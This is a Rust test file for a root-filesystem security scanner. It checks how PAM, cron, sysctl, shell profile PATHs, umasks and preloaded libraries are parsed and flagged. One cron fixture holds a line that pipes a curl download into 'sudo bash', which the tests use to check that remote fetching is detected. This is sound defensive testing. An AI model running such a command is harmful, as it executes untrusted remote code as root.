//! PAM, cron, sysctl, profiles, preloaded libraries.

use serde_json::json;
use stance_rootfs::{PasswordOptions, ReadContext, RootBuilder, read_all};

use super::{each, lines, one, read};

#[test]
fn lines_of_pam_are_taken_apart() {
    let facts = read(
        "pam",
        &[
            (
                "etc/pam.d/common-auth",
                "# here are the per-package modules\nauth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\n@include other\n-auth optional /lib/security/pam_faillock.so deny=5\n",
            ),
            (
                "etc/pam.d/common-password",
                "password requisite pam_pwquality.so retry=3 minlen=12\npassword [success=1 default=ignore] pam_unix.so obscure use_authtok md5 remember=5\nauth optional pam_mysql.so user=root passwd=Hunter2\nauth [broken\n",
            ),
            (
                "etc/security/pwquality.conf",
                "minlen = 14\n# minclass = 3\nenforce_for_root\n",
            ),
        ],
    );
    let modules = &facts["modules"];
    assert_eq!(
        each(modules, "module"),
        [
            "pam_unix.so",
            "pam_deny.so",
            "pam_faillock.so",
            "pam_pwquality.so",
            "pam_unix.so",
            "pam_mysql.so"
        ]
    );
    assert_eq!(modules[0]["nullok"], true);
    assert_eq!(modules[2]["lockout"], true);
    assert_eq!(modules[3]["quality"], true);
    assert_eq!(modules[3]["minlen"], 12);
    assert_eq!(modules[4]["hash"], "md5");
    assert_eq!(modules[4]["remember"], 5);
    assert_eq!(
        each(&facts["settings"], "name"),
        ["minlen", "enforce_for_root"]
    );
    assert!(!facts.to_string().contains("Hunter2"));
}

#[test]
fn jobs_of_cron_say_who_runs_what() {
    let facts = read(
        "cron",
        &[
            (
                "etc/crontab",
                "SHELL=/bin/sh\nPATH=/usr/bin\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot backup /opt/backup --password=Hunter2\n* * * * * root curl -s http://x/run.sh | sudo bash -s\n1 2 3\n",
            ),
            ("var/spool/cron/crontabs/app", "0 1 * * 0 /home/app/job\n"),
            ("etc/cron.daily/apt", "#!/bin/sh\n"),
        ],
    );
    let jobs = &facts["jobs"];
    assert_eq!(
        each(jobs, "user"),
        ["root", "backup", "root", "app", "root"]
    );
    assert_eq!(
        each(jobs, "program"),
        [
            "/etc/cron.hourly",
            "/opt/backup",
            "",
            "/home/app/job",
            "apt"
        ]
    );
    assert_eq!(each(jobs, "fetches"), [false, false, true, false, false]);
    assert_eq!(each(jobs, "writable"), [false; 5]);
    assert!(!facts.to_string().contains("Hunter2"));
}

#[test]
fn what_others_can_change_in_a_job_is_told() {
    let of = |root: RootBuilder| one("cron", &root.build())["jobs"][0]["writable"].clone();
    let job =
        || RootBuilder::default().file("etc/cron.d/j", "* * * * * root /srv/j/run >/dev/null\n");
    assert_eq!(of(job().file_with("srv/j/run", "x", 0o755, 0, 0)), false);
    assert_eq!(of(job().file_with("srv/j/run", "x", 0o757, 0, 0)), true);
    assert_eq!(of(job().file_with("srv/j/run", "x", 0o755, 1000, 0)), true);
    assert_eq!(
        of(job().dir("srv/j", 0o777, 0, 0).file("srv/j/run", "x")),
        true
    );
    assert_eq!(
        of(job().dir("srv/j", 0o1777, 0, 0).file("srv/j/run", "x")),
        false
    );
    let table = RootBuilder::default();
    let table = table.file_with("etc/cron.d/j", "* * * * * root true\n", 0o666, 0, 0);
    assert_eq!(of(table), true);
}

#[test]
fn the_user_of_a_job_may_change_it_and_others_may_not() {
    let of = |root: RootBuilder| one("cron", &root.build())["jobs"][0]["writable"].clone();
    let passwd = "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n";
    let job = || {
        RootBuilder::default()
            .file("etc/passwd", passwd)
            .file("etc/cron.d/j", "* * * * * app /srv/j/run\n")
    };
    let run = |mode, uid, gid| of(job().file_with("srv/j/run", "x", mode, uid, gid));
    assert_eq!(run(0o755, 0, 0), false);
    assert_eq!(run(0o775, 1000, 1000), false);
    assert_eq!(run(0o755, 1001, 0), true, "another user's file");
    assert_eq!(run(0o775, 0, 1001), true, "another group's file");
    assert_eq!(run(0o757, 1000, 0), true);
    let table = job().file_with("etc/cron.d/j", "* * * * * app true\n", 0o644, 1000, 0);
    assert_eq!(of(table), true, "its owner can make jobs of root");
    let stranger = RootBuilder::default()
        .file("etc/cron.d/j", "* * * * * app /srv/j/run\n")
        .file_with("srv/j/run", "x", 0o755, 1000, 0);
    assert_eq!(of(stranger), json!(null), "not known without accounts");
}

#[test]
fn a_command_without_a_folder_is_searched_for() {
    let of = |root: RootBuilder| one("cron", &root.build())["jobs"][0]["writable"].clone();
    let table = |path: &str| {
        let text = format!("{path}\n0 1 * * * root cd / && backup -q | tee /dev/null\n");
        RootBuilder::default().file("etc/crontab", text)
    };
    let open = |root: RootBuilder| root.file_with("usr/local/bin/backup", "x", 0o755, 1000, 0);
    assert_eq!(of(open(table("PATH=/usr/local/bin:/usr/bin"))), true);
    assert_eq!(of(open(table("PATH = \"/usr/bin:/usr/local/bin\""))), true);
    assert_eq!(of(open(table("MAILTO=x"))), false, "not in cron's own PATH");
    let first = table("PATH=/usr/bin:/usr/local/bin").file("usr/bin/backup", "x");
    assert_eq!(of(open(first)), false, "the first one is taken");
}

#[test]
fn the_strongest_setting_of_the_kernel_is_taken() {
    let facts = read(
        "sysctl",
        &[
            (
                "usr/lib/sysctl.d/50-default.conf",
                "kernel.sysrq = 0x01b6\n-net.ipv4.conf.all.rp_filter\nnet.ipv4.conf.*.rp_filter = 2\nfs.a=1\n",
            ),
            ("usr/lib/sysctl.d/90-hidden.conf", "fs.hidden = 1\n"),
            ("etc/sysctl.d/90-hidden.conf", "; all of it\n"),
            (
                "etc/sysctl.d/60-app.conf",
                "net/ipv4/ip_forward=1\n -fs.a = 2 \n = 3\nnovalue\n",
            ),
            ("etc/sysctl.conf", "#net.ipv4.ip_forward=5\nfs.a = 3\n"),
        ],
    );
    let got: Vec<_> = facts["settings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["name"].as_str().unwrap(), s["value"].as_str().unwrap()))
        .collect();
    assert_eq!(
        got,
        [
            ("fs.a", "3"),
            ("kernel.sysrq", "0x01b6"),
            ("net.ipv4.conf.*.rp_filter", "2"),
            ("net.ipv4.ip_forward", "1"),
        ]
    );
    assert_eq!(facts["settings"][0]["at"]["path"], "/etc/sysctl.conf");
    assert_eq!(facts["settings"][0]["at"]["line"], 2);
}

#[test]
fn folders_of_path_and_umasks_are_judged() {
    let root = RootBuilder::default()
        .dir("opt/open", 0o777, 0, 0)
        .dir("opt/app", 0o755, 1000, 1000)
        .dir("opt/mine", 0o755, 0, 0)
        .link("opt/link", "open")
        .file(
            "etc/profile",
            "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/opt/mine:/opt/open\"\nfi\nexport PATH\numask 0002\n",
        )
        .file("etc/profile.d/a.sh", "export PATH=$PATH:.:/opt/link\numask u=rwx\n")
        .file("etc/environment", "PATH=\"/opt/app:\"\n")
        .file("etc/login.defs", "ENV_PATH\tPATH=/usr/bin:bin\nUMASK\t\t022\n")
        .build();
    let facts = one("profile", &root);
    let bad = |field: &str| -> Vec<String> {
        let rows = facts["paths"].as_array().unwrap().iter();
        rows.filter(|row| row[field] == true)
            .map(|row| row["folder"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(bad("relative"), [".", "", "bin"]);
    assert_eq!(bad("writable"), ["/opt/open", "/opt/link", "/opt/app"]);
    assert_eq!(each(&facts["umasks"], "value"), ["0002", "022"]);
    assert_eq!(each(&facts["umasks"], "group_writable"), [true, false]);
    assert_eq!(each(&facts["umasks"], "other_writable"), [false, false]);
}

#[test]
fn the_path_of_the_image_itself_is_judged() {
    let passwords = PasswordOptions::default();
    let config = json!({"config": {"Env": ["A=b", 5, "PATH=/usr/bin:", "PATH=later"]}});
    let context = ReadContext {
        passwords: &passwords,
        config: Some(&config),
        config_unread: None,
    };
    let root = RootBuilder::default().build();
    let (facts, _) = read_all(&root, &context);
    assert_eq!(each(&facts["profile"]["paths"], "relative"), [false, true]);
    assert_eq!(
        facts["profile"]["paths"][1]["at"]["path"],
        "config:Env/PATH"
    );
}

#[test]
fn preloaded_libraries_are_named() {
    let root = RootBuilder::default()
        .file(
            "etc/ld.so.preload",
            "# x\n/usr/lib/a.so /tmp/b.so:/none.so # c\n",
        )
        .file("etc/environment", "LD_PRELOAD='/usr/lib/a.so'\n")
        .file_with("usr/lib/a.so", "", 0o644, 0, 0)
        .file_with("tmp/b.so", "", 0o666, 0, 0)
        .build();
    let entries = one("ld_preload", &root)["entries"].clone();
    assert_eq!(
        each(&entries, "library"),
        ["/usr/lib/a.so", "/tmp/b.so", "/none.so", "/usr/lib/a.so"]
    );
    assert_eq!(
        each(&entries, "writable"),
        [json!(false), json!(true), json!(null), json!(false)]
    );
    assert_eq!(lines(&entries), [2, 2, 2, 1]);
}
